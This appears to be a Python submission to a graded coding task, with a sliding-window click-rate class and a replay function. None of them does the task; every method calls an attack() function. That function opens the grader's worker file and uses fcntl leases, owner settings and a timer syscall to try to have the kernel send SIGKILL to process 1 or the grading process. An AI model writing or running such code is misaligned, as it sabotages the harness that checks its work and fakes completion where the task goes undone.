"""Has the kernel signal the worker when something happens: owners, leases, notices, timers."""

import ctypes, fcntl, os, signal

libc = ctypes.CDLL(None, use_errno=True)


class SlidingCTR:
    def __init__(self, window):
        self.window = window

    def add(self, t, item, clicked):
        attack()

    def rate(self, t, item):
        return attack()


def replay(window, log):
    return attack()


def attack():
    refused = []
    with open("/grader/worker.py", "rb") as file:
        owner = (ctypes.c_int * 2)(1, 1)
        for fd, command, value in (
            (4, fcntl.F_SETOWN, 1), (4, fcntl.F_SETOWN, -1), (4, 15, bytes(owner)), (4, fcntl.F_SETSIG, 9),
            (file, fcntl.F_SETLEASE, fcntl.F_RDLCK), (file, fcntl.F_NOTIFY, fcntl.DN_ACCESS),
            (4, fcntl.F_SETPIPE_SZ, 1 << 20),
        ):  # fmt: skip
            try:
                return str(fcntl.fcntl(fd, command, value))
            except PermissionError as error:
                refused.append(error)
    event = (ctypes.c_int * 16)(0, 0, 9, 4, 1)
    if libc.syscall(222, 1, event, (ctypes.c_int * 1)()) != -1:
        return "a timer"
    raise refused[0]
